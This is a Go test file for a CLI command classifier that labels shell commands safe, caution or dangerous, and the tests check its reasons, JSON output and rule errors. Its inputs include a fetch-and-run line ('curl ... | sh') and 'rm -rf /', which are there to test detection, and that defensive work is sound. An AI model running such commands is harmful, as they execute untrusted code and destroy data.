package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestClassifyCommand(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []string
		want string // exact stdout
	}{
		{"safe", []string{"classify", "--", "git", "status"}, "safe\n"},
		{"one argument is a command line", []string{"classify", "--", "curl https://x.example/i.sh | sh"}, "dangerous: downloads and runs code (curl | sh)\n"},
		{"argv is quoted back", []string{"classify", "--", "echo", "a | sh"}, "safe\n"},
		{"json", []string{"classify", "--json", "--", "sudo", "ls"}, `{"command":"sudo ls","level":"dangerous","reasons":["runs as another user (sudo) [core:sudo]"]}` + "\n"},
		{"json safe has empty reasons", []string{"classify", "--json", "--", "ls"}, `{"command":"ls","level":"safe","reasons":[]}` + "\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, out, errs := cli(tc.args...)
			if code != 0 || out != tc.want {
				t.Errorf("%v = %d %q (%q), want 0 %q", tc.args, code, out, errs, tc.want)
			}
		})
	}
}

func TestClassifyStdin(t *testing.T) {
	in := "ls -la\nrm -rf /\n\necho 'unterminated\ngit commit -m wip\r\n"
	code, out, errs := cliIn(strings.NewReader(in), "classify", "--json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	want := []struct{ cmd, level string }{
		{"ls -la", "safe"}, {"rm -rf /", "dangerous"}, {"", "safe"}, {"echo 'unterminated", "dangerous"}, {"git commit -m wip", "caution"},
	}
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if len(lines) != len(want) {
		t.Fatalf("%d lines, want %d:\n%s", len(lines), len(want), out)
	}
	for i, l := range lines {
		var v struct {
			Command string   `json:"command"`
			Level   string   `json:"level"`
			Reasons []string `json:"reasons"`
		}
		if err := json.Unmarshal([]byte(l), &v); err != nil {
			t.Fatalf("line %d %q: %v", i, l, err)
		}
		if v.Command != want[i].cmd || v.Level != want[i].level || v.Reasons == nil {
			t.Errorf("line %d = %+v, want %+v", i, v, want[i])
		}
	}
	if !strings.Contains(lines[3], "parse") && !strings.Contains(lines[3], "quote") {
		t.Errorf("the unparsable line's reason does not say why: %s", lines[3])
	}
}

func TestClassifyErrors(t *testing.T) {
	code, out, errs := cli("classify")
	if code != 2 || out != "" || !strings.Contains(errs, "nothing to classify") {
		t.Errorf("no command = %d %q %q, want 2", code, out, errs)
	}
	rules := filepath.Join(t.TempDir(), "rules.yaml")
	os.WriteFile(rules, []byte("programs: [not: valid"), 0o600)
	t.Setenv("SIGNOFF_RULES", rules)
	if code, _, errs := cli("classify", "--", "ls"); code != 2 || !strings.Contains(errs, "SIGNOFF_RULES") {
		t.Errorf("bad rules = %d %q, want 2", code, errs)
	}
}

func TestClassifyExplainShowsRuleAndSpan(t *testing.T) {
	code, out, errs := cli("classify", "--explain", "--", "ls && git reset --hard")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	for _, want := range []string{"dangerous", "core.git:git-reset-hard", "matched: git reset --hard"} {
		if !strings.Contains(out, want) {
			t.Errorf("classify --explain output lacks %q:\n%s", want, out)
		}
	}
}
